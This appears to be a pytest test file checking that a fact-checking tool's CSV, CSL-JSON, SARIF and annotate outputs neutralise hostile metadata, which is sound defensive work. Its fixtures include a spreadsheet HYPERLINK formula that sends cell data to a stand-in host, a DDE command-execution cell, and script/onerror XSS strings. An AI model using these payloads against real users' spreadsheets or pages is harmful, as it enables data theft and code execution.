"""The hostile-input corpus on the export and reading surfaces: formula cells (CSV), Rich and
HTML markup and terminal controls in source metadata (CSL-JSON, SARIF, annotate and its
inline notes), and overlong claims. Each output stays inert, valid for the tool that reads it,
and lossless where it promises to be."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest

from tests.csl_reference import assert_valid_csl
from tests.hostile.hostile_helpers import make_ledger, q, run_cli, run_tty
from tests.hostile.test_hostile_output import CONTROLS, MARKUP, PAYLOAD, assert_inert

SCHEMAS = Path(__file__).parent.parent / "data" / "schemas"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'=already guarded",
]
LONG = "A claim that goes on " + "and on " * 6000 + "until it stops."
QUOTE = "Pyongyang said the talks would resume."
ARTICLE = (
    "Heading " + MARKUP + "\n\n"
    f"Intro. {QUOTE} Then it said {PAYLOAD} and left. " + "Filler words here. " * 400 + "\n"
)
HTML = '<script>alert(1)</script><img src=x onerror=alert(1)> "quoted" & more'
META = PAYLOAD + " " + HTML


def claims_yaml() -> str:
    entries = [
        f"  - id: disputed\n    quote: {q(QUOTE)}\n    claim: {q(LONG)}\n    kind: fact\n"
        f"    rating: inaccurate\n    note: {q(META + ' ' + LONG)}\n"
        f"    speaker: {q(FORMULAS[0])}\n    tags: [{q(FORMULAS[1])}, {q('a;b')}]\n"
        f"    evidence:\n      - {{source: src, stance: contradicts, says: {q(META)}}}\n",
        f"  - id: payload\n    quote: {q('Then it said ' + PAYLOAD)}\n    kind: opinion\n"
        f"    note: {q(META)}\n",
    ]
    for i, formula in enumerate(FORMULAS):
        entries.append(
            f"  - id: formula-{i}\n    quote: {q('Filler words here.')}\n"
            f"    kind: opinion\n    claim: {q(formula)}\n    section: {q(formula)}\n"
            f"    note: {q(formula)}\n"
        )
    return "format: 1\narticle: art\nclaims:\n" + "".join(entries)


SOURCE = (
    f"id: src\ntype: news\ntitle: {q(META + ' ' + LONG)}\nauthor: [{q(MARKUP)}, {q(HTML)}]\n"
    f"publisher: {q(META + ' (remark ' + CONTROLS + ')')}\nissued: 2021-09-30\n"
    f"url: https://example.org/src\naccessed: 2026-11-27\nnote: {q(META)}\n"
)


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("exports")
    make_ledger(root, claims_yaml(), {"src.yaml": SOURCE}, article=ARTICLE)
    return root


def run_ok(ledger: Path, *args: str) -> str:
    done = run_cli([*args, "--ledger", str(ledger)], cwd=ledger, timeout=20.0)
    assert done.code in (0, 1), done.err
    assert_inert(done, markup=False)
    return done.out


def test_csv_cells_never_start_a_formula_and_read_back(ledger: Path) -> None:
    for args in (["export", "-f", "csv"], ["list", "--format", "csv"]):
        rows = list(csv.DictReader(io.StringIO(run_ok(ledger, *args), newline="")))
        cells = [cell for row in rows for cell in row.values()]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        claims = {row["id"]: row for row in rows}
        for i, formula in enumerate(FORMULAS):
            assert claims[f"formula-{i}"]["section"] == "'" + formula
        if args[0] == "export":
            assert claims["disputed"]["claim"] == LONG  # 42,000 characters, whole
            assert json.loads(claims["disputed"]["tags"]) == [FORMULAS[1], "a;b"]


def test_csl_json_of_hostile_metadata_is_valid_and_inert(ledger: Path) -> None:
    items = json.loads(run_ok(ledger, "export", "-f", "csl"))
    assert_valid_csl(items)
    (src,) = [i for i in items if i["id"] == "src"]
    assert src["title"].endswith("until it stops.")
    assert "note" not in src and "(remark" not in src["container-title"]
    assert src["author"][0] == {"literal": MARKUP}


def test_sarif_of_a_hostile_ledger_is_valid(ledger: Path) -> None:
    log = json.loads(run_ok(ledger, "check", "--format", "sarif"))
    schema = json.loads((SCHEMAS / "sarif-2.1.0.json").read_text("utf-8"))
    jsonschema.Draft4Validator(schema).validate(log)


@pytest.mark.parametrize(
    "args",
    [
        ["annotate"],
        ["annotate", "--notes"],
        ["annotate", "--notes", "--ids"],
        ["annotate", "--color", "always", "--notes", "--no-pager"],
        ["annotate", "--color", "always", "--ids", "--no-pager"],
    ],
)
def test_annotate_with_notes_is_inert(ledger: Path, args: list[str]) -> None:
    out = run_ok(ledger, *args)
    assert MARKUP in out.replace("\n", " ") or "[bold red]ALERT[/bold red]" in out
    if "--notes" in args:
        assert "disputed, rated inaccurate" in out


def test_annotate_on_a_terminal_is_inert(ledger: Path) -> None:
    done = run_tty(["annotate", "--notes", "--no-pager", "--ledger", str(ledger)], cwd=ledger)
    assert done.code == 0, done.err
    assert_inert(done, markup=False)
